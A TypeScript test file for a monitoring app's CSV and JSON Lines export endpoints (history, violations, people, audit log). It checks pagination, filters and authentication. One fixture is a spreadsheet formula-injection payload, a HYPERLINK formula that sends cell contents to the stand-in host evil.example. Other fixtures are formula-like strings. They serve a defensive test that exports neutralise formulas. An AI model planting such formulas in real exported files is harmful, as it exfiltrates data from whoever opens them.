// Exports over HTTP against a stored history: every play the history lists (across several pages
// of the warehouse), with the list's filters, as CSV a spreadsheet reads back cell for cell and as
// JSON Lines; names that look like formulas stay text; the audit log only for admins.
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLogger } from '../core/logger.ts';
import { setupAndSignIn } from '../testing/api-session.ts';
import { testConfiguration } from '../testing/configuration.ts';
import { samplePlaybackEvent, sampleViolation } from '../testing/fixtures.ts';
import { generateHistory } from '../testing/history.ts';
import { loadHistory } from '../testing/load-history.ts';
import { openTestWarehouse } from '../testing/warehouse.ts';
import { playbackEventRow, violationRow } from '../warehouse/rows.ts';
import { buildApi } from './app.ts';
import { csvCell } from './export-format.ts';

// More plays than one page of the warehouse (500), so that the export reads several.
const history = generateHistory({ seed: 5, plays: 620, livePlays: 0 });
const record = { topic: 'test', partition: 0, offset: '0', key: null, value: null, headers: {}, timestamp: 0 };
const HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1, "Click")';
const QUOTED = 'Hello, "World"\nsecond line';
let warehouse: Awaited<ReturnType<typeof openTestWarehouse>>;
let loaded: Awaited<ReturnType<typeof loadHistory>>;
let app: FastifyInstance;
let base: string;
let cookie: string;
const range = `from=${Date.UTC(2026, 8, 1)}&to=${Date.UTC(2026, 11, 1)}`;

/** RFC 4180, as a spreadsheet reads it: quoted cells may hold separators, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ',') endCell();
    else if (c === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

const get = (path: string, headers: Record<string, string> = { cookie }) => fetch(base + path, { headers });

/** A CSV export's rows, after checking that it starts with the UTF-8 byte-order mark spreadsheets look for. */
async function csvOf(path: string): Promise<string[][]> {
  const bytes = new Uint8Array(await (await get(path)).arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parseCsv(new TextDecoder().decode(bytes));
}

/** Every play of the history's list with these filters, read page by page as the dashboard does. */
async function listed(query: string): Promise<Array<Record<string, unknown>>> {
  const out: Array<Record<string, unknown>> = [];
  let cursor: string | null = null;
  do {
    const response = await get(
      `/api/v1/sessions/history?${query}&limit=500${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
    );
    const page = (await response.json()) as { sessions: Array<Record<string, unknown>>; nextCursor: string | null };
    out.push(...page.sessions);
    cursor = page.nextCursor;
  } while (cursor);
  return out;
}

beforeAll(async () => {
  warehouse = await openTestWarehouse();
  loaded = await loadHistory(warehouse, history);
  const at = Date.UTC(2026, 9, 10, 20);
  const odd = (sessionKey: string, title: string, deviceName: string) =>
    playbackEventRow(
      samplePlaybackEvent({
        sessionKey,
        observedAt: at,
        media: { ...samplePlaybackEvent().media, title },
        device: { ...samplePlaybackEvent().device, deviceName },
      }),
      record,
    );
  await warehouse.client.insert({
    table: warehouse.table('playback_events'),
    values: [odd('hostile', HOSTILE, '@SUM(1+1)'), odd('quoted', QUOTED, '-1 TV')],
    format: 'JSONEachRow',
  });
  const play = history.plays[0]!;
  await warehouse.client.insert({
    table: warehouse.table('violations'),
    values: Array.from({ length: 3 }, (_, i) =>
      violationRow(
        sampleViolation({
          violationId: `${i}`.padStart(32, 'a'),
          accountKey: play.accountKey,
          serverId: play.serverId,
          detectedAt: play.startedAt + i * 60_000,
          rule: i === 2 ? 'CONCURRENT_STREAMS' : 'IMPOSSIBLE_TRAVEL',
        }),
        record,
      ),
    ),
    format: 'JSONEachRow',
  });
  // More findings than a page, all detected at one instant: the pages must neither repeat nor skip a tie.
  await warehouse.client.insert({
    table: warehouse.table('violations'),
    values: Array.from({ length: 1100 }, (_, i) =>
      violationRow(
        sampleViolation({
          violationId: `${i}`.padStart(32, 'b'),
          accountKey: play.accountKey,
          serverId: play.serverId,
          detectedAt: play.startedAt - 86_400_000,
          rule: 'DEVICE_VELOCITY',
        }),
        record,
      ),
    ),
    format: 'JSONEachRow',
  });
  app = await buildApi({
    warehouse,
    logger: createLogger('test'),
    configuration: testConfiguration(warehouse),
    clientId: 'exports-test',
  });
  base = await app.listen({ port: 0, host: '127.0.0.1' });
  cookie = await setupAndSignIn(base);
}, 180_000);

afterAll(async () => {
  await app?.close();
  await loaded?.close();
  await warehouse?.drop();
});

describe('exports', () => {
  it('writes a cell as text a spreadsheet cannot run: formulas get an apostrophe, separators are quoted', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+44 20 7946 0000')).toBe("'+44 20 7946 0000");
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(null)).toBe('');
    expect(csvCell(['4k', '1080'])).toBe('4k; 1080');
  });

  it('exports every play of the history as CSV, over several pages, streamed as a file', async () => {
    const response = await get(`/api/v1/exports/history?${range}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(response.headers.get('content-disposition')).toMatch(/attachment; filename="streamwarden-history-.*\.csv"/);
    expect(response.headers.get('transfer-encoding')).toBe('chunked');
    await response.body?.cancel();
    const [heading, ...rows] = await csvOf(`/api/v1/exports/history?${range}`);
    expect(heading!.slice(0, 4)).toEqual(['started_at', 'stopped_at', 'server', 'account']);
    const plays = await listed(range);
    expect(plays.length).toBeGreaterThan(500);
    expect(rows).toHaveLength(plays.length);
    // The same plays in the same order, cell for cell.
    const column = (name: string) => heading!.indexOf(name);
    expect(rows.map((r) => r[column('session_key')])).toEqual(plays.map((p) => p.sessionKey));
    expect(rows.map((r) => r[column('started_at')])).toEqual(plays.map((p) => p.startedAt));
    // What a viewer or server named stays text, and reads back as it was written.
    const hostile = rows.find((r) => r[column('session_key')] === 'hostile')!;
    expect(hostile[column('title')]).toBe(`'${HOSTILE}`);
    expect(hostile[column('device')]).toBe("'@SUM(1+1)");
    const quoted = rows.find((r) => r[column('session_key')] === 'quoted')!;
    expect(quoted[column('title')]).toBe(QUOTED);
    expect(quoted[column('device')]).toBe("'-1 TV");
  });

  it("narrows as the history does, and gives JSON Lines in the history's own shape", async () => {
    const [first] = await listed(range);
    const platform = String(first!.platform);
    const narrowed = await listed(`${range}&platform=${encodeURIComponent(platform)}&delivery=DIRECT_PLAY`);
    expect(narrowed.length).toBeGreaterThan(0);
    const response = await get(
      `/api/v1/exports/history?${range}&platform=${encodeURIComponent(platform)}&delivery=DIRECT_PLAY&format=jsonl`,
    );
    expect(response.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    const lines = (await response.text()).trimEnd().split('\n');
    const rows = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(rows).toEqual(narrowed);
  });

  it('exports violations with their filters, the accounts with their people, and the audit log for admins', async () => {
    const all = await csvOf('/api/v1/exports/violations');
    expect(all).toHaveLength(1 + 3 + 1100);
    expect(new Set(all.slice(1).map((r) => r.at(-1))).size).toBe(1103);
    const travel = await csvOf('/api/v1/exports/violations?rule=IMPOSSIBLE_TRAVEL');
    expect(travel.slice(1).map((r) => r[1])).toEqual(['IMPOSSIBLE_TRAVEL', 'IMPOSSIBLE_TRAVEL']);

    const users = ((await (await get('/api/v1/users')).json()) as { users: unknown[] }).users;
    const people = (await (await get('/api/v1/exports/people?format=jsonl')).text()).trimEnd().split('\n');
    expect(people).toHaveLength(users.length);
    expect(JSON.parse(people[0]!)).toMatchObject({ accountKey: expect.any(String), trustScore: expect.any(Number) });

    // Signing in and the exports above are in the audit log; its export is the admin's.
    const audit = await csvOf('/api/v1/exports/audit?action=auth.');
    expect(audit[0]).toEqual([
      'at',
      'actor',
      'role',
      'via',
      'action',
      'target',
      'outcome',
      'status',
      'detail',
      'address',
    ]);
    expect(audit.slice(1).some((r) => r[4] === 'auth.setup')).toBe(true);
  });

  it('answers 401 without a session, for every export', async () => {
    for (const what of ['history', 'violations', 'people', 'audit'])
      expect((await get(`/api/v1/exports/${what}`, {})).status, what).toBe(401);
  });
});
